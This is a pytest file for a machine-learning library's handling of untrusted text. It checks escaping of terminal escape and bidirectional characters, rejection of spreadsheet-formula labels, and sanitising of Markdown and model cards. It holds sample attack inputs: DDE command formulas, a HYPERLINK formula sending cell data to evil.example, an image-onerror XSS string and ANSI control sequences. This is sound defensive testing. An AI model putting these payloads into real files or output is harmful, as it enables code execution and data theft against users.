"""Words of strangers on a terminal and in Markdown: shown, and never obeyed."""

from __future__ import annotations

import json
from pathlib import Path

import pyarrow as pa
import pytest

from blindbayes import NaiveBayes
from blindbayes.cli import main
from blindbayes.codebook import Categorical, Codebook
from blindbayes.errors import ConfigError
from blindbayes.io.files import read_folder, write_folder
from blindbayes.io.untrusted import is_seen, markdown, require_seen, shown
from blindbayes.report.checksums import seal_files
from blindbayes.report.model_card import model_card
from support.releases import release_of, released_sites

EVIL = "hello\x1b]0;PWNED\x07\x1b[31m \u202egnp.exe\u2066 \x9b2J \u2028end"


def test_control_and_bidirectional_characters_stand_as_escapes() -> None:
    text = shown(EVIL)
    assert is_seen(text)
    assert "\\u001b]0;PWNED\\u0007" in text
    assert "\\u202egnp.exe" in text
    assert json.loads(f'"{text}"') == EVIL  # nothing is lost, and a JSON text stays one
    assert shown("a\nb\tc", lines=True) == "a\nb\tc"
    assert shown("a\nb") == "a\\u000ab"


@pytest.mark.parametrize("text", ["Müller", "北京", "naïve", "می‌خواهم", "a b", "é"])
def test_ordinary_words_of_any_script_stay_as_they_are(text: str) -> None:
    assert shown(text) == text
    assert require_seen(text, "a name") == text


@pytest.mark.parametrize("text", ["a\u202eb", "a\u2066b", "a\u200fb", "a\x1bb", "a\x85b", "a\u2028b", "a\ufeffb", "\ud800"])
def test_names_that_a_screen_would_not_show_are_refused(text: str) -> None:
    with pytest.raises(ConfigError, match="control characters"):
        require_seen(text, "a name")
    with pytest.raises(ConfigError, match="control characters"):
        Codebook("y", ("a", "b"), (Categorical(text, ("u", "v")),))
    with pytest.raises(ConfigError, match="control characters"):
        Codebook("y", ("a", text), (Categorical("x", ("u", "v")),))


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example?"&A1)', "=cmd|'/c calc'!A1", "+cmd|' /C calc'!A0", "-2+3+cmd|'x'!A0", "@SUM(1)*2",
        "='//evil.example/[a.xlsx]b'!A1", " =IMPORTXML(A1)",
    ],
)  # fmt: skip
def test_no_class_is_a_formula_that_a_spreadsheet_runs(text: str) -> None:
    """`predict` and `study predict` write the column and its labels into CSV files, which people open."""
    for target, label in ((text, "b"), ("y", text)):
        with pytest.raises(ConfigError, match="formula"):
            Codebook(target, ("a", label), (Categorical("x", ("u", "v")),))


@pytest.mark.parametrize("text", ["-1", "+", "-", "=5", ">50K", "@home", "-5 (low)", "+/-", "<=50K", "wow!", "f(x)"])
def test_labels_with_signs_stay_labels(text: str) -> None:
    assert Codebook("y", ("a", text), (Categorical("-log10", ("u", "v")),)).classes[1] == text


def test_markdown_has_no_link_html_code_or_table_of_a_stranger() -> None:
    found = markdown("<img src=x onerror=alert(1)> [click](javascript:x) `code` a|b https://evil.example www.evil.example \\")
    assert "<" not in found
    for raw in ("[click]", "`code`", "a|b", "https://", "www.evil"):
        assert raw not in found.replace("\\" + raw[0], "")
    assert "https\\://" in found


def test_a_model_card_escapes_the_names_of_its_codebook() -> None:
    book = Codebook("<b>ill</b>", ("no|yes", "`x`"), (Categorical("[a](http://b)", ("u", "v")),), max_rows=100)
    model = NaiveBayes(book).fit(pa.table({"<b>ill</b>": ["no|yes", "`x`"], "[a](http://b)": ["u", "v"]}))
    card = model_card(model._record().parameters, {"title": "<script>"})
    for raw in ("<b>", "<script>", "[a](", " `x`"):
        assert raw not in card
    assert "&lt;script&gt;" in card


def test_a_release_cannot_write_on_the_terminal(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    sites = released_sites(tmp_path / "sites")
    files = read_folder(release_of(sites, "north"))
    report = json.loads(files["leakage.json"])
    report["follows"] = [EVIL]
    report["parties"] = {EVIL: {"in plain words": [EVIL]}}
    facts = {**json.loads(files["run.json"]), "title": EVIL}
    seals = ("checksums", "signatures.json", "common.json", "common.signatures.json", "claims.json")
    kept = {name: content for name, content in files.items() if name not in seals}
    forged = {**kept, "leakage.json": json.dumps(report).encode(), "run.json": json.dumps(facts).encode()}
    folder = write_folder(tmp_path / "forged", seal_files(forged, {"north": sites.sites["north"].identity.signing}))
    main(["report", str(folder)])
    got = capsys.readouterr().out
    assert "PWNED" in got
    assert "\x1b" not in got
    assert "\u202e" not in got
    (folder / "a\x1b[31mb").write_bytes(b"")
    with pytest.raises(SystemExit):
        main(["report", str(folder)])
    error = capsys.readouterr().err
    assert "is not part of the release" in error
    assert "\x1b" not in error
